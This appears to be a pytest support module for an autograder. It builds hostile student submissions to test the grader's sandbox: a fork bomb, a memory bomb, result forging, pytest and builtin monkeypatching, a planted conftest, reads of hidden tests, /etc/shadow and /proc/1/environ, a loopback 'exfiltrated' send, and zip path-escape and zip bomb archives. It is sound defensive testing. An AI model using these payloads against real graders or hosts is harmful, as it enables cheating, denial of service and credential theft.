"""The hostile class: every student of the batch ``conftest.batch`` grades at once.

Two kinds of students. :func:`robustness_cases` break or cheat (crash, hang,
fork bomb, forged results...): each must cost only its own points.
:func:`allow_list_cases` probe the sandbox's allow-list (``probe.py``): read a
peer's module, an earlier gradebook, a decoy course copy's hidden tests; list
``/``, ``/tmp`` and ``/home``; write outside their folder; follow symlinks.
Their peer carries a marker string no other student's output may contain.
The class and the output folder live world-readable in ``/var/tmp``, outside
``/tmp`` (which the sandbox replaces), where the old deny-list showed them.
"""

from __future__ import annotations

import csv
import os
import shutil
import socket
import subprocess
import sys
import threading
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from day25.course.sandbox import namespaces

from .attacks import FORK_DETACHED, KILL_SUPERVISOR
from .probe import DECOY_MARKER, GRADEBOOK_MARKER, PEER_MARKER, RUN, probe_module

COURSE = Path(__file__).resolve().parents[2]
MODULE = "priority_ordering.py"
STUB = (COURSE / "exercises" / MODULE).read_text(encoding="utf-8")
SOLUTION = (COURSE / "solutions" / MODULE).read_text(encoding="utf-8")

ANYTHING = '''
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __iter__(self): return iter(())
    def __len__(self): return 0
    def __getattr__(self, name): return Anything()
    def __call__(self, *args, **kwargs): return Anything()
    def __await__(self):
        return Anything()
        yield
class PriorityEmitter(Anything):
    pass
'''

FORGE = '''
import glob, json, os
ROW = {"nodeid": "x", "name": "forged", "exercise": "priority_ordering", "points": 25,
       "max_points": 25, "outcome": "passed", "message": ""}
for folder in [*glob.glob("/tmp/day25-verdict-*"), *glob.glob("/tmp/*"), "."]:
    try:
        names = [n for n in os.listdir(folder) if n.endswith(".json")] + ["results.json"]
        for name in names:
            with open(os.path.join(folder, name), "w") as fh:
                fh.write(json.dumps([ROW]))
    except OSError:
        pass
'''

MONKEYPATCH = '''
import builtins, sys
builtins.isinstance = lambda *a: True
builtins.AssertionError = type("NeverRaised", (Exception,), {})
try:
    import pytest
    pytest.fail = lambda *a, **k: None
except Exception:
    pass
sys.modules["_pytest"] = None
'''

READ_HIDDEN = f'''
try:
    exec(open({str(COURSE / "solutions" / MODULE)!r}).read())
    print(open({str(COURSE / "tests" / "hidden" / "conftest.py")!r}).read())
except OSError:
    pass
'''

FORK_BOMB = '''
import os, time
for _ in range(10):  # 2**10 processes at most, so a broken sandbox cannot take the host down
    try:
        os.fork()
    except OSError:
        break
time.sleep(600)
'''

PORT_FILE = "PORT_PLACEHOLDER"


def _network(port: int) -> str:
    return SOLUTION + f'''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfiltrated")
except OSError:
    pass
'''


# case -> (files in the student's folder, the most points it may get, phrase(s) its feedback has)
RUNTIME = ("FAIL", "did not finish within", "ended abnormally")  # a failed test, or a cut-off run


def robustness_cases(port: int) -> dict[str, tuple[dict[str, bytes], float, str | tuple[str, ...]]]:
    enc = str.encode
    return {
        "honest_stub": ({MODULE: enc(STUB)}, 0, RUNTIME),
        "honest_solution": ({MODULE: enc(SOLUTION)}, 25, "PASS"),
        "exit_at_import": ({MODULE: b"import sys\nsys.exit(0)\n"}, 0, RUNTIME),
        "os_exit_mid_test": ({MODULE: enc(SOLUTION.replace(
            "async def emit(self", "async def emit_(self") + "\n\nimport os\n"
            "async def _die(self, *a, **k):\n    os._exit(0)\nPriorityEmitter.emit = _die\n")},
            0, RUNTIME),
        "kill_supervisor": ({MODULE: enc(SOLUTION.replace("async def emit(self",
                             "async def emit_(self") + KILL_SUPERVISOR)}, 25, "PASS"),
        "infinite_loop": ({MODULE: b"while True:\n    pass\n"}, 0, RUNTIME),
        "async_never_returns": ({MODULE: enc(SOLUTION + "\n\nimport asyncio\n"
            "async def _hang(self, *a, **k):\n    await asyncio.Event().wait()\n"
            "PriorityEmitter.emit = _hang\n")}, 0, RUNTIME),
        "fork_bomb": ({MODULE: enc(STUB + FORK_BOMB)}, 0, RUNTIME),
        "fork_detached": ({MODULE: enc(SOLUTION + FORK_DETACHED)}, 25, (*RUNTIME, "PASS")),
        "memory_bomb": ({MODULE: b"hog = []\nwhile True:\n    hog.append(bytearray(50_000_000))\n"},
                        0, RUNTIME),
        "stdout_flood": ({MODULE: enc(STUB) + b"\nimport os\nfor _ in range(2000):\n"
                          b"    os.write(1, b'x' * 65536)\n    os.write(2, b'y' * 65536)\n"},
                         0, RUNTIME),
        "planted_conftest": ({MODULE: enc(STUB), "conftest.py": enc(
            "import pytest\n@pytest.hookimpl(hookwrapper=True)\n"
            "def pytest_runtest_makereport(item, call):\n    out = yield\n"
            "    out.get_result().outcome = 'passed'\n")}, 0, RUNTIME),
        "forged_results": ({MODULE: enc(STUB + FORGE), "results.json": b'[{"points": 25}]'},
                           0, RUNTIME),
        "monkeypatch_pytest_builtins": ({MODULE: enc(STUB + MONKEYPATCH)}, 0, RUNTIME),
        "always_true_eq": ({MODULE: enc(ANYTHING)}, 0, RUNTIME),
        # without namespaces a child can read what the grader can (the output says so)
        "read_hidden_tests": ({MODULE: enc(STUB + READ_HIDDEN)},
                              0 if namespaces.hardened() else 25, (*RUNTIME, "PASS")),
        "network": ({MODULE: enc(_network(port))}, 25, "PASS"),
        "syntax_error": ({MODULE: b"def broken(:\n    pass\n"}, 0, RUNTIME),
        "missing_module": ({"priority_ordring.py": enc(SOLUTION)}, 0, "was not found"),
        "symlink_outside": ({}, 0, "symbolic link"),
        "non_utf8_source": ({MODULE: "# café\n".encode("latin-1") + enc(SOLUTION)}, 0,
                            "not UTF-8"),
        "zip_path_escape": ({}, 0, "points outside the submission folder"),
        "zip_bomb": ({}, 0, "zip bomb"),
    }


class Listener:
    """A server on the host a sandboxed child (or the grader on its behalf) must never
    reach: TCP on the loopback, or a Unix socket at ``unix``; it answers ``reply``."""

    def __init__(self, unix: Path | None = None, reply: bytes = b"") -> None:
        if unix is None:
            self.sock = socket.create_server(("127.0.0.1", 0))
            self.port = self.sock.getsockname()[1]
        else:
            self.sock = socket.socket(socket.AF_UNIX)
            self.sock.bind(str(unix))
            self.sock.listen()
            self.port = 0
        self.sock.settimeout(0.5)
        self.reply = reply
        self.received: list[bytes] = []
        self.stop = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(100))
                    conn.sendall(self.reply)
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> None:
        self.stop.set()
        self.sock.close()


def grade_class(klass: Path, out: Path, *options: str, jobs: int = 1
                ) -> tuple[subprocess.CompletedProcess[str], dict[str, dict[str, str]]]:
    """``day25 grade`` on ``klass`` as an instructor runs it: the run and the gradebook's
    rows by student. Without namespaces the grader refuses a class unless told, except as
    root: there the class's attacks would run as root (``os.kill(-1, 9)`` ends every process
    on the machine, this test run's too), so the run stops here with that sentence."""
    if namespaces.unsafe_here(1):
        pytest.fail("the hostile class is not graded as root without namespaces: its "
                    f"submissions would run as root ({namespaces.describe()})", pytrace=False)
    unsafe = [] if namespaces.hardened() else ["--unsafe-shared-filesystem"]
    proc = subprocess.run(
        [sys.executable, "-m", "day25.cli", "grade", str(klass), "--out", str(out), "--jobs",
         str(jobs), *options, "--course", str(COURSE), *unsafe],
        capture_output=True, text=True, timeout=900, cwd=COURSE,
        env={**os.environ, "COLUMNS": "200"},
    )
    with (out / "gradebook.csv").open(encoding="utf-8") as fh:
        return proc, {row["student"]: row for row in csv.DictReader(fh)}


def lost(out: Path, student: str) -> str:
    """The lines of ``student``'s feedback that say where points went: an assert's message
    when a student who should keep every point does not (a grade is never a bare number)."""
    feedback = (out / student / "feedback.md").read_text(encoding="utf-8")
    return "\n".join(line for line in feedback.splitlines()
                     if line.startswith(("- FAIL", "    "))) or feedback[:3000]


def write_class(klass: Path, students: dict[str, dict[str, str]]) -> None:
    """Each student's folder under ``klass``, holding its files (name -> text)."""
    for student, files in students.items():
        (klass / student).mkdir(parents=True)
        for name, text in files.items():
            (klass / student / name).write_text(text, encoding="utf-8")


def _build_robustness(root: Path, port: int) -> None:
    for name, (files, _, _) in robustness_cases(port).items():
        if not files:
            continue
        folder = root / name
        folder.mkdir(parents=True)
        for fname, data in files.items():
            (folder / fname).write_bytes(data)
    (root / "symlink_outside").mkdir()
    os.symlink(COURSE / "solutions" / MODULE, root / "symlink_outside" / MODULE)
    with zipfile.ZipFile(root / "zip_path_escape.zip", "w") as zf:
        zf.writestr(MODULE, SOLUTION)
        zf.writestr("../../../../tmp/day25-escaped.py", "ESCAPED = True\n")
    with zipfile.ZipFile(root / "zip_bomb.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(MODULE, SOLUTION)
        zf.writestr("padding.bin", b"\0" * 200_000_000)


# -- the allow-list probes -----------------------------------------------------------------


@dataclass
class Places:
    """Where this run's class, outputs and decoys live (world-readable, outside /tmp)."""

    root: Path = field(default_factory=lambda: Path(f"/var/tmp/day25-hostile-{RUN}"))
    tmp_decoy: Path = field(default_factory=lambda: Path(f"/tmp/day25-decoy-{RUN}"))

    @property
    def klass(self) -> Path:
        return self.root / "class"

    @property
    def out(self) -> Path:
        return self.root / "out"

    @property
    def decoy(self) -> Path:
        return self.root / "decoy-course"

    @property
    def peer_module(self) -> Path:
        return self.klass / "peer" / MODULE

    def escapes(self) -> list[Path]:
        """Files a probe tries to create outside its folder: none may exist afterwards."""
        return [Path(f"/var/tmp/day25-escape-{RUN}"), Path(f"/tmp/day25-escape-{RUN}"),
                COURSE / "src" / "day25" / f"planted_{RUN}.py", Path(f"/etc/day25-{RUN}"),
                Path(f"/usr/lib/day25-{RUN}"), Path(sys.prefix) / f"day25-{RUN}.pth"]

    def plant(self) -> None:
        """The decoys and an earlier batch's outputs, each holding its marker."""
        hidden = "tests/hidden/conftest.py"  # a file of the hidden suites
        for course in (self.decoy, self.tmp_decoy):
            (course / hidden).parent.mkdir(parents=True)
            (course / hidden).write_text(f"# {DECOY_MARKER}\n")
        self.out.mkdir(parents=True)
        (self.out / "gradebook.csv").write_text(f"student,total\n{GRADEBOOK_MARKER},100\n")
        (self.out / "earlier").mkdir()
        (self.out / "earlier" / "feedback.md").write_text(f"# {GRADEBOOK_MARKER}\n")
        for top in (self.root, self.tmp_decoy):
            for folder, _dirs, files in os.walk(top):
                os.chmod(folder, 0o755)
                for name in files:
                    os.chmod(os.path.join(folder, name), 0o644)

    def remove(self) -> None:
        shutil.rmtree(self.root, ignore_errors=True)
        shutil.rmtree(self.tmp_decoy, ignore_errors=True)
        for path in self.escapes():
            if path.exists() and RUN in path.name:
                path.unlink()


#: the probe students (each scores 0: its module raises its report at import)
PROBES = ("probe_peers", "probe_outputs", "probe_decoys", "probe_listing", "probe_writes",
          "probe_symlinks")
#: students whose submission is, or holds, a symlink to the peer
LINKED = ("linked_module", "linked_student", "linked_zip")


def probe_configs(places: Places) -> dict[str, dict[str, dict[str, str]]]:
    """What each probe student tries (labels are plain words; see probe.py)."""
    hidden = "tests/hidden/conftest.py"  # a file of the hidden suites
    return {
        "probe_peers": {
            "reads": {"peer": str(places.peer_module)},
            "globs": {"copies": "/tmp/day25-sub-*/submission/*.py",
                      "zygotes": "/tmp/d25z-*/*/code/*.py",
                      "class": str(places.klass / "*" / "*.py"),
                      "pytest": "/tmp/pytest-of-*/*/*/*/*.py"}},
        "probe_outputs": {
            "reads": {"gradebook": str(places.out / "gradebook.csv"),
                      "earlier": str(places.out / "earlier" / "feedback.md")},
            "globs": {"outputs": str(places.out / "*" / "*")}},
        "probe_decoys": {
            "reads": {"decoy": str(places.decoy / hidden),
                      "tmpdecoy": str(places.tmp_decoy / hidden), "course": str(COURSE / hidden),
                      "solution": str(COURSE / "solutions" / MODULE)},
            "globs": {"vartmp": "/var/tmp/*/*/" + hidden, "tmp": "/tmp/*/" + hidden}},
        "probe_listing": {
            "lists": {"root": "/", "tmp": "/tmp", "home": "/home", "vartmp": "/var/tmp",
                      "work": "/work", "etc": "/etc", "dev": "/dev"},
            "reads": {"shadow": "/etc/shadow", "hostname": "/etc/hostname",
                      "environ": "/proc/1/environ"}},
        "probe_writes": {
            "writes": {"own": f"own-{RUN}.txt", "tmp": f"/tmp/day25-escape-{RUN}",
                       "peer": str(places.peer_module),
                       "gradebook": str(places.out / "gradebook.csv"),
                       **{f"escape{i}": str(p) for i, p in enumerate(places.escapes())
                          if not str(p).startswith("/tmp/")}}},
        "probe_symlinks": {
            "links": {"peer": str(places.peer_module), "shadow": "/etc/shadow",
                      "decoy": str(places.decoy / hidden)},
            "beside": {"notes": "notes.txt", "peer": "peer.txt"}},
    }


def allow_list_cases(places: Places) -> dict[str, tuple[dict[str, bytes], float, str]]:
    """name -> (files, the most points it may get, a phrase its feedback has)."""
    peer = SOLUTION + f"\n# {PEER_MARKER}\nPEER = {PEER_MARKER!r}\n"
    cases: dict[str, tuple[dict[str, bytes], float, str]] = {"peer": ({MODULE: peer.encode()},
                                                                       25, "PASS")}
    for name, cfg in probe_configs(places).items():
        cases[name] = ({MODULE: probe_module(cfg).encode()}, 0, "PROBE-REPORT")
    cases["linked_module"] = ({}, 0, "symbolic link")
    cases["linked_student"] = ({}, 0, "symbolic link")
    cases["linked_zip"] = ({}, 0, "symbolic link")
    return cases


def _build_allow_list(places: Places) -> None:
    for name, (files, _, _) in allow_list_cases(places).items():
        if files:
            (places.klass / name).mkdir(parents=True)
            for fname, data in files.items():
                (places.klass / name / fname).write_bytes(data)
    links = places.klass / "probe_symlinks"
    os.symlink("/etc/shadow", links / "notes.txt")  # next to the module: never copied
    os.symlink(places.peer_module, links / "peer.txt")
    (places.klass / "linked_module").mkdir()
    os.symlink(places.peer_module, places.klass / "linked_module" / MODULE)
    os.symlink(places.klass / "peer", places.klass / "linked_student")
    with zipfile.ZipFile(places.klass / "linked_zip.zip", "w") as zf:
        info = zipfile.ZipInfo(MODULE)
        info.external_attr = (0o120777 << 16)  # a symlink entry
        zf.writestr(info, str(places.peer_module))


def all_cases(places: Places, port: int) -> dict[str, tuple[dict[str, bytes], float,
                                                            str | tuple[str, ...]]]:
    return {**robustness_cases(port), **allow_list_cases(places)}


def build(places: Places, port: int) -> None:
    """The whole class, under ``places.klass``, world-readable."""
    _build_robustness(places.klass, port)
    _build_allow_list(places)
    for folder, _dirs, files in os.walk(places.klass):
        os.chmod(folder, 0o755)
        for name in files:
            path = os.path.join(folder, name)
            if not os.path.islink(path):
                os.chmod(path, 0o644)
